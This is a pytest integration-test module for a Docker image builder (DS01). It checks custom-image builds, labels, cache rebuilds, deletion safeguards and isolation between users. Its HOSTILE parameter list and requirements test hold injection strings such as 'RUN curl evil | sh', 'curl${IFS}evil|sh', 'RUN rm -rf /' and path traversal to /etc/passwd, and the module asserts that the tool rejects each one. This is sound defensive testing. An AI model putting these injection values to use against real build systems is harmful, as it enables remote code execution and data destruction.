"""Tier 2 image builder on a real Docker engine, through the real CLI as real users.

Issue 5's "Done when": the plan's Test Case 2 (``docker history`` shows the AIME base
image, the labels are there, ``container create`` picks the custom image, and inside it the
custom package imports as the user, not root); hostile input exits 2 with nothing written
or built; ``image update`` rebuilds from the cache; ``image delete`` is refused while a
container uses the image and ``--force`` removes that container first.

One image is built per module and shared (a build is the slow part). The hermetic base is
tagged as the catalog images; pip reaches PyPI only with the host's CA bundle, which the
configuration passes to the build (``build.ca_certificates``). The workspaces live in this
module's own directory, so other tests' clean-ups of ``~/workspace`` cannot touch them.
"""

from __future__ import annotations

import io
import json
import os
import pwd
import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ds01.adapters.docker_engine import DockerEngine
from ds01.adapters.identity import actor_for_user
from ds01.adapters.state_setup import install_state
from ds01.domain.actor import Actor
from ds01.domain.labels import LIST_SEPARATOR, L
from ds01.domain.naming import project_image_name
from ds01.services.image.build import ImageBuilder
from tests.integration.conftest import (
    DEFAULT_LIMITS,
    ONE_H200,
    TEST_ADMIN_GROUP,
    USER_PREFIX,
    Ds01Env,
)

pytestmark = [pytest.mark.docker, pytest.mark.slow]

HOST_CA_BUNDLE = Path("/etc/ssl/certs/ca-certificates.crt")
BASE_IMAGE_REF = "ds01-test/bookworm-base:latest"
#: The newest PyTorch for CUDA_ADA in AIME's v2 catalog (the H200 inventory maps there).
CATALOG_BASE = "aimehub/pytorch-2.8.0-cuda12.6.3"
PROJECT = "my-cv-project"
#: Small pure-Python packages the hermetic base does not have.
CUSTOM_PACKAGE, CUSTOM_MODULE = "tomli-w", "tomli_w"
ADDED_PACKAGE, ADDED_MODULE = "iniconfig", "iniconfig"
FAST_FLAGS = ("--type", "none", "--no-jupyter", "--no-datascience")
#: A user whose name makes their project COLLIDED_PROJECT's image name the same as
#: alice's project ALICE_PROJECT: "coll" + "-ds01t-ds01t-alice" both ways.
COLLIDER = "ds01t-ds01t-alice"
ALICE_PROJECT, COLLIDED_PROJECT = "coll-ds01t", "coll"
#: Every project these tests build; the clean-up removes exactly their images.
OUR_PROJECTS = {
    PROJECT,
    "to-delete",
    "failing",
    "own-dockerfile",
    "too-slow",
    ALICE_PROJECT,
    COLLIDED_PROJECT,
    "steal",
    "tagged",
}
BUILD_TIMEOUT = 900


def _remove_our_images(engine: DockerEngine) -> None:
    for info in engine.list_images([L.MAINTAINER]):
        labels = info.labels
        ours = labels.get(L.IMAGE_PROJECT) in OUR_PROJECTS
        if ours and labels.get(L.MAINTAINER, "").startswith(USER_PREFIX):
            for tag in info.tags:
                engine.remove_image(tag, force=True)


def _remove_our_containers(engine: DockerEngine) -> None:
    for project in OUR_PROJECTS:
        for row in engine.api.containers(all=True, filters={"label": f"{L.NAME}={project}"}):
            labels = row.get("Labels") or {}
            if labels.get(L.USER, "").startswith(USER_PREFIX):
                engine.remove(row["Id"], force=True)


@pytest.fixture(scope="module")
def image_env(engine: DockerEngine, linux_users: dict[str, Actor]) -> Iterator[Ds01Env]:
    """A private DS01 setup for this module, with builds trusting the host's CA bundle."""
    if not HOST_CA_BUNDLE.is_file():
        pytest.skip(f"{HOST_CA_BUNDLE} missing: builds could not reach PyPI")
    from tests.conftest import FIXTURES

    catalog = FIXTURES / "aime" / "ml_images.v2.repo"
    if not catalog.exists():
        pytest.skip(f"AIME catalog fixture missing: {catalog}")
    root = Path(tempfile.mkdtemp(prefix="ds01-it-images-", dir="/tmp"))
    root.chmod(0o755)
    # As on a server (and in conftest): the state dir is setgid to a group every DS01 user
    # is in, so files one user creates stay writable by the others.
    state = root / "state"
    state.mkdir()
    install_state(state, group="docker", admin_group=TEST_ADMIN_GROUP)  # as installed
    (root / "ws").mkdir()
    (root / "ws").chmod(0o1777)  # each user makes their own workspace base here
    env = Ds01Env(
        root,
        root / "ds01.yaml",
        root / "resource-limits.yaml",
        root / "gpus.json",
        engine,
    )
    env.config_path.write_text(
        json.dumps(
            {
                "catalog": str(catalog),
                "limits": str(env.limits_path),
                "state_dir": str(root / "state"),
                "workspace_root": f"{root}/ws/{{user}}",
                "admin_group": "ds01t-admins",
                "gpu": {"inventory": f"file:{env.inventory_path}", "runtime": "none"},
            }
        )
    )
    env.write_config(build={"ca_certificates": [str(HOST_CA_BUNDLE)]})
    # One CPU per container: below any aggregate CPU limit another test left on a test
    # user's parent cgroup (a container's quota may not exceed its parent's).
    env.write_limits({**DEFAULT_LIMITS, "defaults": {"max_containers": 5, "max_cpus": 1}})
    env.write_inventory(ONE_H200)
    for path in (env.config_path, env.limits_path, env.inventory_path):
        path.chmod(0o644)
    try:
        yield env
    finally:
        _remove_our_containers(engine)
        _remove_our_images(engine)
        shutil.rmtree(root, ignore_errors=True)


def workspace(env: Ds01Env, user: Actor) -> Path:
    return env.root / "ws" / user.name


def ds01(env: Ds01Env, user: Actor, *args: str) -> subprocess.CompletedProcess[str]:
    return env.run_cli(user.name, *args, timeout=BUILD_TIMEOUT)


def as_json(proc: subprocess.CompletedProcess[str]) -> Any:
    assert proc.stdout.strip(), proc.stderr
    return json.loads(proc.stdout)


@pytest.fixture(scope="module")
def built(image_env: Ds01Env, linux_users: dict[str, Actor]) -> dict[str, Any]:
    """``image create my-cv-project`` as alice, once for the module (the --json result)."""
    alice = linux_users["ds01t-alice"]
    proc = ds01(
        image_env, alice, "image", "create", PROJECT, *FAST_FLAGS, "--pip", CUSTOM_PACKAGE, "--json"
    )
    assert proc.returncode == 0, proc.stderr + proc.stdout
    result: dict[str, Any] = as_json(proc)
    return result


def test_case_2_custom_image_on_the_aime_base(
    image_env: Ds01Env, built: dict[str, Any], alice: Actor, engine: DockerEngine
) -> None:
    image = project_image_name(PROJECT, alice.name)
    assert built["image"] == image == f"{PROJECT}-{alice.name}-image:latest"
    assert built["built"] is True
    assert built["base"] == CATALOG_BASE

    # The Dockerfile is in the project directory, the user's own, readable and editable.
    dockerfile = workspace(image_env, alice) / PROJECT / "Dockerfile"
    assert built["dockerfile"] == str(dockerfile)
    assert dockerfile.stat().st_uid == alice.uid
    text = dockerfile.read_text()
    assert f"FROM {CATALOG_BASE}\n" in text
    assert CUSTOM_PACKAGE in text

    # `docker history my-cv-project-<user>-image | grep aimehub`: the base is a layer.
    history = subprocess.run(
        ["docker", "history", "--no-trunc", "--format", "{{.ID}}", image],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    base = engine.image(CATALOG_BASE)
    assert base is not None
    assert base.id in history
    entries = engine.image_history(image)
    assert any(tag.startswith("aimehub/") for e in entries for tag in e.get("Tags") or [])

    # Labels: AIME's custom-image key, the owner, base, framework, tiers, the baked user.
    info = engine.image(image)
    assert info is not None
    labels = info.labels
    assert labels[L.CUSTOM_IMAGE] == image
    assert labels[L.MAINTAINER] == alice.name
    assert labels[L.BASE_IMAGE] == CATALOG_BASE
    assert labels[L.IMAGE_FRAMEWORK] == "Pytorch-2.8.0"
    assert labels[L.IMAGE_TIERS].split(LIST_SEPARATOR) == ["framework", "system", "custom"]
    assert labels[L.IMAGE_PROJECT] == PROJECT
    assert (labels[L.BAKED_UID], labels[L.BAKED_GID]) == (str(alice.uid), str(alice.gid))
    assert labels[L.BAKED_USER] == alice.name

    # The full build log is kept, and it is the user's.
    log = Path(built["log"])
    assert log.parent == image_env.root / "state" / "users" / str(alice.uid) / "build-logs"
    assert log.stat().st_uid == alice.uid
    assert "Successfully tagged" in log.read_text()

    # `container create my-cv-project` picks the custom image ...
    proc = ds01(image_env, alice, "container", "create", PROJECT, "--json")
    assert proc.returncode == 0, proc.stderr
    created = as_json(proc)
    assert created["image"] == image
    container = engine.inspect(created["container"])
    assert container.info.labels[L.CUSTOM_IMAGE] == image
    assert container.image_id == info.id

    # ... and inside it the custom package imports as the user (not root), sudo works.
    script = (
        f"id -u; python3 -c 'import {CUSTOM_MODULE}; print(\"IMPORT_OK\")'; "
        "sudo -n true && echo SUDO_OK"
    )
    proc = ds01(image_env, alice, "container", "exec", PROJECT, "--", "sh", "-c", script)
    assert proc.returncode == 0, proc.stderr + proc.stdout
    uid, *rest = proc.stdout.split()
    assert uid == str(alice.uid) != "0"
    assert rest == ["IMPORT_OK", "SUDO_OK"]
    engine.remove(created["container"], force=True)


HOSTILE = [
    pytest.param(("evil", "--pip", "x\nRUN curl evil | sh"), "evil", id="pip-newline-injection"),
    pytest.param(("evil", "--pip", "x;curl${IFS}evil|sh"), "evil", id="pip-shell"),
    pytest.param(("evil", "--pip", "pkg @ https://evil.example/x.whl"), "evil", id="pip-url"),
    pytest.param(("evil", "--apt", "curl\nRUN rm -rf /"), "evil", id="apt-newline"),
    pytest.param(("evil", "--apt", "-o=APT::Foo"), "evil", id="apt-option"),
    pytest.param(("evil", "--base", "debian\nRUN curl evil"), "evil", id="base-newline"),
    pytest.param(("evil", "--type", "cv\nRUN x"), "evil", id="type-newline"),
    pytest.param(("../../etc",), "../../etc", id="name-traversal"),
    pytest.param(("bad\nRUN curl evil | sh",), None, id="name-newline"),
    pytest.param(("evil", "--requirements", "../../../../etc/passwd"), "evil", id="req-path"),
    pytest.param(("evil", "--dockerfile", "/etc/passwd"), "evil", id="dockerfile-path"),
    pytest.param(("evil", "--dockerfile", "~root/Dockerfile"), "evil", id="other-home"),
]


@pytest.mark.parametrize(("args", "project"), HOSTILE)
def test_hostile_input_exits_2_and_writes_and_builds_nothing(
    image_env: Ds01Env,
    alice: Actor,
    engine: DockerEngine,
    args: tuple[str, ...],
    project: str | None,
) -> None:
    ws = workspace(image_env, alice)
    dockerfiles = set(image_env.root.rglob("Dockerfile"))
    images = {i.id for i in engine.list_images([f"{L.MAINTAINER}={alice.name}"])}
    proc = ds01(image_env, alice, "image", "create", *args, "--no-jupyter", "--no-datascience")
    assert proc.returncode == 2, proc.stderr + proc.stdout
    assert "internal error" not in proc.stderr
    assert "error:" in proc.stderr
    # Nothing written: no project directory, no Dockerfile; nothing built: no new image.
    if project is not None:
        assert not (ws / project).exists()
    assert set(image_env.root.rglob("Dockerfile")) == dockerfiles
    assert {i.id for i in engine.list_images([f"{L.MAINTAINER}={alice.name}"])} <= images
    assert engine.list_images([f"{L.IMAGE_PROJECT}=evil"]) == []


def test_hostile_requirements_file_is_refused(
    image_env: Ds01Env, alice: Actor, engine: DockerEngine
) -> None:
    ws = workspace(image_env, alice)
    ws.mkdir(parents=True, exist_ok=True)
    os.chown(ws, alice.uid, alice.gid)
    req = ws / "requirements.txt"
    req.write_text(
        "numpy\nRUN curl evil | sh\n--index-url http://evil.example/simple\n"
        + "a" * 60
        + " SECRET-TAIL\n"
    )
    os.chown(req, alice.uid, alice.gid)
    proc = ds01(image_env, alice, "image", "create", "evilreq", "--requirements", str(req))
    assert proc.returncode == 2, proc.stderr
    assert "requirements.txt:2" in proc.stderr and "requirements.txt:3" in proc.stderr
    # A refused line is shown by its number and a short excerpt, never whole.
    assert "requirements.txt:4 'aaaa" in proc.stderr and "SECRET-TAIL" not in proc.stderr
    assert not (ws / "evilreq").exists()
    assert engine.image(project_image_name("evilreq", alice.name)) is None


def test_update_adds_a_package_and_rebuilds_from_the_cache(
    image_env: Ds01Env, built: dict[str, Any], alice: Actor, engine: DockerEngine
) -> None:
    image = project_image_name(PROJECT, alice.name)
    old = engine.image(image)
    assert old is not None
    old_layers = [e["Id"] for e in engine.image_history(old.id)]

    proc = ds01(image_env, alice, "image", "update", PROJECT, "--add-pip", ADDED_PACKAGE, "--json")
    assert proc.returncode == 0, proc.stderr + proc.stdout
    result = as_json(proc)
    assert result["written"] is True
    assert result["id"] != old.id
    assert result["cached_steps"] >= result["steps"] // 2
    assert "Using cache" in Path(result["log"]).read_text()

    # Only the custom tier changed in the Dockerfile, and the layers below it are reused:
    # the user-setup layer (the last before the custom tier) is the same in both images.
    text = (workspace(image_env, alice) / PROJECT / "Dockerfile").read_text()
    assert text.count(ADDED_PACKAGE) == 1 and CUSTOM_PACKAGE in text
    new_history = engine.image_history(result["id"])
    user_layer = next(e["Id"] for e in new_history if "ds01 user setup" in e["CreatedBy"])
    assert user_layer in old_layers
    assert result["tiers"] == ["framework", "system", "custom"]

    # The new package works, as the user; the replaced build is gone (nothing used it).
    proc = subprocess.run(
        ["docker", "run", "--rm", "--user", f"{alice.uid}:{alice.gid}", image, "python3", "-c",
         f"import {CUSTOM_MODULE}, {ADDED_MODULE}; print('OK')"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert (proc.returncode, proc.stdout.strip()) == (0, "OK"), proc.stderr
    assert engine.image(old.id) is None


def test_failed_build_names_the_step_keeps_the_log_and_leaves_nothing(
    image_env: Ds01Env, alice: Actor, engine: DockerEngine
) -> None:
    missing = "ds01-no-such-package-zz9"
    proc = ds01(
        image_env, alice, "image", "create", "failing", *FAST_FLAGS, "--pip", missing, "--json"
    )
    assert proc.returncode == 1, proc.stderr + proc.stdout
    error = as_json(proc)
    assert error["error"] == "build_failed"
    details = error["details"]
    assert details["instruction"].startswith("RUN python3 -m pip install")
    assert 0 < details["step"] <= details["total"]
    assert any(missing in line for line in details["last_lines"])
    assert "failed at step" in proc.stderr and details["log"] in proc.stderr
    log = Path(details["log"])
    assert log.stat().st_uid == alice.uid and missing in log.read_text()
    # The classic builder tags only on success, and forcerm leaves no build container.
    assert engine.image(project_image_name("failing", alice.name)) is None
    leftovers = [c for c in engine.api.containers(all=True) if missing in (c.get("Command") or "")]
    assert leftovers == []
    # The Dockerfile stays for the user to fix.
    assert (workspace(image_env, alice) / "failing" / "Dockerfile").is_file()


def test_delete_is_refused_while_a_container_uses_the_image_and_force_removes_it(
    image_env: Ds01Env, built: dict[str, Any], alice: Actor, engine: DockerEngine
) -> None:
    image = project_image_name("to-delete", alice.name)
    proc = ds01(
        image_env, alice, "image", "create", "to-delete", *FAST_FLAGS, "--pip", CUSTOM_PACKAGE
    )
    assert proc.returncode == 0, proc.stderr
    proc = ds01(image_env, alice, "container", "create", "to-delete", "--json")
    assert proc.returncode == 0, proc.stderr
    container = as_json(proc)["container"]
    assert engine.inspect(container).info.state.value == "running"  # started at creation

    proc = ds01(image_env, alice, "image", "delete", "to-delete")
    assert proc.returncode == 2, proc.stderr
    assert container in proc.stderr and "--force" in proc.stderr
    assert engine.image(image) is not None and engine.exists(container)

    proc = ds01(image_env, alice, "image", "delete", "to-delete", "--force", "--json")
    assert proc.returncode == 0, proc.stderr
    result = as_json(proc)
    assert result["removed_containers"] == [container]
    assert result["dockerfile_kept"] == str(
        workspace(image_env, alice) / "to-delete" / "Dockerfile"
    )
    assert not engine.exists(container)
    assert engine.image(image) is None
    # Base images are never removed; the Dockerfile stays.
    assert engine.image(CATALOG_BASE) is not None
    assert Path(result["dockerfile_kept"]).is_file()


def test_list_shows_own_images_only(
    image_env: Ds01Env, built: dict[str, Any], alice: Actor, bob: Actor
) -> None:
    proc = ds01(image_env, alice, "image", "list", "--json")
    assert proc.returncode == 0, proc.stderr
    rows = {row["name"]: row for row in as_json(proc)}
    row = rows[PROJECT]
    assert set(row) >= {
        "name",
        "image",
        "base",
        "framework",
        "tiers",
        "size_bytes",
        "created",
        "id",
    }
    assert row["image"] == project_image_name(PROJECT, alice.name)
    assert row["base"] == CATALOG_BASE and row["size_bytes"] > 0
    proc = ds01(image_env, bob, "image", "list", "--json")
    assert proc.returncode == 0, proc.stderr
    assert PROJECT not in {row["name"] for row in as_json(proc)}
    proc = ds01(image_env, bob, "image", "delete", PROJECT)
    assert proc.returncode == 2  # bob has no such image: his name is in the image name


def test_own_dockerfile_is_wrapped_and_built_with_its_directory_as_context(
    image_env: Ds01Env, alice: Actor, engine: DockerEngine
) -> None:
    project = workspace(image_env, alice) / "own-dockerfile"
    project.mkdir(parents=True, exist_ok=True)
    (project / "data.txt").write_text("from the context\n")
    (project / "Dockerfile").write_text(
        "FROM ds01-test/bookworm-base:latest\nCOPY data.txt /opt/data.txt\n"
    )
    for path in (project.parent, project, project / "data.txt", project / "Dockerfile"):
        os.chown(path, alice.uid, alice.gid)
    proc = ds01(
        image_env, alice, "image", "create", "own-dockerfile",
        "--dockerfile", str(project / "Dockerfile"), "--json",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr + proc.stdout
    result = as_json(proc)
    assert result["framework"] == "custom"
    assert result["tiers"][0] == "dockerfile"
    text = (project / "Dockerfile").read_text()
    assert text.startswith("FROM ds01-test/bookworm-base:latest\nCOPY data.txt /opt/data.txt\n")
    assert "ds01 user setup" in text
    image = project_image_name("own-dockerfile", alice.name)
    proc = subprocess.run(
        ["docker", "run", "--rm", "--user", f"{alice.uid}:{alice.gid}", image,
         "sh", "-c", "cat /opt/data.txt; whoami; sudo -n true && echo SUDO_OK"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split("\n")[:3] == ["from the context", alice.name, "SUDO_OK"]


def test_a_build_past_the_timeout_is_stopped_and_leaves_nothing(
    image_env: Ds01Env, alice: Actor, engine: DockerEngine
) -> None:
    project = workspace(image_env, alice) / "too-slow"
    project.mkdir(parents=True, exist_ok=True)
    (project / "Dockerfile").write_text(
        "FROM ds01-test/bookworm-base:latest\nRUN echo ds01-slow-step && sleep 120\n"
    )
    for path in (project.parent, project, project / "Dockerfile"):
        os.chown(path, alice.uid, alice.gid)
    image_env.write_config(build={"timeout": 5})
    try:
        proc = ds01(image_env, alice, "image", "create", "too-slow", "--dockerfile",
                    str(project / "Dockerfile"), "--json")  # fmt: skip
    finally:
        image_env.write_config(build={"timeout": 3600})
    assert proc.returncode == 1, proc.stderr + proc.stdout
    error = as_json(proc)
    assert error["error"] == "build_timeout"
    assert "sleep 120" in error["details"]["instruction"]
    # The configured timeout stopped it (not the 120 s step finishing): said in the message.
    assert "took longer than 5 s and was stopped" in error["message"]
    assert engine.image(project_image_name("too-slow", alice.name)) is None
    # Closing the connection cancelled the build; forcerm removes its container.
    deadline = time.monotonic() + 20
    while True:
        running = [
            c
            for c in engine.api.containers(all=True)
            if "ds01-slow-step" in (c.get("Command") or "")
        ]
        if not running or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert running == []


# ------------------------------------------------------------ image names of two users


@pytest.fixture(scope="module")
def collider(linux_users: dict[str, Actor]) -> Iterator[Actor]:
    """A real account whose name collides with alice's (made here, removed after)."""
    made = False
    try:
        pwd.getpwnam(COLLIDER)
    except KeyError:
        subprocess.run(
            ["useradd", "--create-home", "--shell", "/bin/bash", "--groups", "docker", COLLIDER],
            check=True,
            capture_output=True,
        )
        made = True
    try:
        yield actor_for_user(COLLIDER)
    finally:
        if made:
            subprocess.run(["userdel", "--remove", COLLIDER], check=False, capture_output=True)


@pytest.fixture(scope="module")
def alices_coll(image_env: Ds01Env, linux_users: dict[str, Actor]) -> str:
    """alice's image of ALICE_PROJECT, built once: the name the collider would also get."""
    alice = linux_users["ds01t-alice"]
    proc = ds01(image_env, alice, "image", "create", ALICE_PROJECT, *FAST_FLAGS, "--json")
    assert proc.returncode == 0, proc.stderr + proc.stdout
    image: str = as_json(proc)["image"]
    return image


def test_colliding_image_names_are_never_used_replaced_or_deleted_for_another_user(
    image_env: Ds01Env, alices_coll: str, alice: Actor, collider: Actor, engine: DockerEngine
) -> None:
    assert alices_coll == project_image_name(COLLIDED_PROJECT, collider.name)
    before = engine.image(alices_coll)
    assert before is not None and before.labels[L.MAINTAINER] == alice.name

    # Building: refused (exit 3) before anything is written.
    proc = ds01(image_env, collider, "image", "create", COLLIDED_PROJECT, *FAST_FLAGS, "--json")
    assert proc.returncode == 3, proc.stderr + proc.stdout
    error = as_json(proc)
    assert error["error"] == "image_name_taken" and "another project name" in error["hint"]
    assert not (workspace(image_env, collider) / COLLIDED_PROJECT / "Dockerfile").exists()

    # The Dockerfile alone may be written; building it with `update` is refused, unchanged.
    proc = ds01(image_env, collider, "image", "create", COLLIDED_PROJECT, *FAST_FLAGS,
                "--no-build")  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    dockerfile = workspace(image_env, collider) / COLLIDED_PROJECT / "Dockerfile"
    text = dockerfile.read_text()
    proc = ds01(image_env, collider, "image", "update", COLLIDED_PROJECT, "--add-pip", "iniconfig")
    assert proc.returncode == 3, proc.stderr
    assert dockerfile.read_text() == text

    # Deleting: refused; listing: not shown; alice's image is untouched throughout.
    proc = ds01(image_env, collider, "image", "delete", COLLIDED_PROJECT, "--force", "--json")
    assert proc.returncode == 3, proc.stderr
    assert as_json(proc)["error"] == "not_owner"
    proc = ds01(image_env, collider, "image", "list", "--json")
    assert proc.returncode == 0, proc.stderr
    assert alices_coll not in {row["image"] for row in as_json(proc)}
    after = engine.image(alices_coll)
    assert after is not None and after.id == before.id
    assert ALICE_PROJECT in {row["name"] for row in as_json(ds01(image_env, alice, "image",
                                                                  "list", "--json"))}  # fmt: skip


def test_another_users_image_is_refused_as_a_base(
    image_env: Ds01Env, alices_coll: str, collider: Actor, engine: DockerEngine
) -> None:
    proc = ds01(image_env, collider, "image", "create", "steal", *FAST_FLAGS,
                "--base", alices_coll, "--json")  # fmt: skip
    assert proc.returncode == 3, proc.stderr + proc.stdout
    assert as_json(proc)["error"] == "base_not_yours"
    assert not (workspace(image_env, collider) / "steal").exists()
    # The same through a Dockerfile of the user's own, multi-stage or not.
    own = workspace(image_env, collider) / "own"
    own.mkdir(parents=True, exist_ok=True)
    (own / "Dockerfile").write_text(
        f"FROM {BASE_IMAGE_REF}\nCOPY --from={alices_coll} /home /stolen\n"
    )
    for path in (own.parent, own, own / "Dockerfile"):
        os.chown(path, collider.uid, collider.gid)
    proc = ds01(image_env, collider, "image", "create", "steal",
                "--dockerfile", str(own / "Dockerfile"), "--json")  # fmt: skip
    assert proc.returncode == 3, proc.stderr + proc.stdout
    assert as_json(proc)["error"] == "base_not_yours"
    assert engine.image(project_image_name("steal", collider.name)) is None


def test_delete_checks_everything_before_it_removes_a_container(
    image_env: Ds01Env, alice: Actor, engine: DockerEngine
) -> None:
    image = project_image_name("tagged", alice.name)
    proc = ds01(image_env, alice, "image", "create", "tagged", *FAST_FLAGS)
    assert proc.returncode == 0, proc.stderr
    proc = ds01(image_env, alice, "container", "create", "tagged", "--cpu-only", "--json")
    assert proc.returncode == 0, proc.stderr
    container = as_json(proc)["container"]
    extra = "ds01t-extra-tag:latest"
    engine.api.tag(image, "ds01t-extra-tag", tag="latest")
    try:
        proc = ds01(image_env, alice, "image", "delete", "tagged", "--force", "--json")
        assert proc.returncode == 3, proc.stderr
        error = as_json(proc)
        assert error["error"] == "image_has_other_tags" and extra in error["message"]
        assert engine.exists(container) and engine.image(image) is not None
    finally:
        engine.remove_image(extra)
    proc = ds01(image_env, alice, "image", "delete", "tagged", "--force", "--json")
    assert proc.returncode == 0, proc.stderr
    assert as_json(proc)["removed_containers"] == [container]
    assert not engine.exists(container) and engine.image(image) is None


def _labelled_build(engine: DockerEngine, tag: str, labels: dict[str, str]) -> str:
    """A tiny image (LABEL only) built with the classic builder; returns its id."""
    dockerfile = f"FROM {BASE_IMAGE_REF}\nLABEL ds01.test.nonce={time.monotonic_ns()}\n"
    for _event in engine.api.build(
        fileobj=io.BytesIO(dockerfile.encode()), tag=tag, labels=labels, rm=True, decode=True
    ):
        pass
    info = engine.image(tag)
    assert info is not None
    return info.id


def test_a_replaced_build_is_removed_only_when_it_is_the_users_own(
    image_env: Ds01Env, alice: Actor, engine: DockerEngine
) -> None:
    tag = "ds01t-drop-test:latest"
    builder = ImageBuilder(image_env.context(alice))
    made: list[str] = []
    try:
        for owner, should_go in ((f"{USER_PREFIX}bob", False), (alice.name, True)):
            labels = {L.CUSTOM_IMAGE: tag, L.MAINTAINER: owner, L.IMAGE_PROJECT: "drop"}
            old = _labelled_build(engine, tag, labels)
            made += [old, _labelled_build(engine, tag, labels)]  # the second untags the first
            previous = engine.image(old)
            assert previous is not None and previous.tags == ()
            builder._drop_replaced(alice, previous)
            assert (engine.image(old) is None) is should_go, owner
        # Never a base image either: the catalog images carry no DS01 labels.
        base = engine.image(BASE_IMAGE_REF)
        assert base is not None
        builder._drop_replaced(alice, base)
        assert engine.image(BASE_IMAGE_REF) is not None
    finally:
        for image_id in made:
            engine.remove_image(image_id, force=True)
